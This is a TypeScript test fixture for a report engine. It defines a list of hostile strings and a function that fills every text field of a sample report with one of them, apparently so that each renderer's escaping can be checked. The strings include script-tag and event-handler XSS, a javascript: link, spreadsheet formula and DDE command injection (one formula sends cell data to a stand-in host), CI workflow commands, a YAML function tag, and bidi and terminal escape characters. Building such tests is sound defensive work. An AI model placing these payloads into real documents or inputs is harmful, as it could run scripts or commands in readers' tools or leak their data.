/** Texts that some reader of a report would run, render or choke on, and a report whose every text is one of them. */
import type { Report } from '../engine/report/report.js';
import { sampleReport } from './fixtures/sample-report.js';

export const HOSTILE_STRINGS: Readonly<Record<string, string>> = {
  html: '<script>alert(1)</script><img src=x onerror=alert(2)>',
  attribute: `" onmouseover="alert(1)' onload='alert(2)`,
  'closing tags': '</title></style></script></details></td></testcase>]]>-->',
  'terminal escapes': '\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u009b2J \r\n\u0008',
  'markdown table': 'a | b\n| --- |\n`code` **bold** [link](javascript:alert(1)) ![x](https://x.example/y.png)',
  'markdown mention': '@everyone #1 https://x.example www.x.example $x^2$ ~~gone~~',
  formula: `=HYPERLINK("https://x.example?"&A1,"here")`,
  'formula by other signs': '+1+cmd|calc',
  'workflow command': 'x\n::error file=a::stopped\n::stop-commands::z %0A',
  yaml: "key: value\n- item\n...\n--- &a *a !!js/function 'x'",
  bidi: 'safe \u202e drawkcab \u2066 isolated \u2069',
  'not XML': 'nul \u0000 bell \u0007 \ufffe surrogate \ud800 end',
  separators: 'line \u2028 paragraph \u2029',
  long: 'x'.repeat(20_000),
  empty: '',
};

/** The sample with `text` in every place that a document, a data file or a plugin writes. */
export function hostileReport(text: string): Report {
  const both = { en: text, zh: text };
  return {
    ...sampleReport,
    subject: { ...sampleReport.subject, name: text || '-', title: both, facts: { [text]: text } },
    rules: sampleReport.rules.map((rule) => ({
      ...rule,
      title: both,
      clause: text,
      remedy: both,
      source: { ...rule.source, file: text },
      evidence: rule.evidence.map((each) => ({ ...each, output: text, detail: text })),
      ...(rule.switchedOffBy && { switchedOffBy: [{ fact: text, value: text }] }),
      waiver: rule.waiver && { ...rule.waiver, reason: both, approvedBy: [text], ticket: text },
    })),
    measurements: sampleReport.measurements.map((each) => ({
      ...each,
      device: text,
      details: [
        { type: 'text', id: 'text', title: both, text: both },
        { type: 'bars', id: 'bars', title: both, unit: text, bars: [{ name: text, value: 1 }] },
        { type: 'table', id: 'table', title: both, columns: [{ name: text }], rows: [[text], [null], [true]] },
        { type: 'matrix', id: 'matrix', title: both, rowNames: [text], columnNames: [text], values: [[1]] },
      ],
    })),
    findings: sampleReport.findings.map((each) => ({ ...each, message: text, hint: text, file: text, source: text })),
    notAssessed: [{ clause: text, standard: text, title: both }],
  };
}
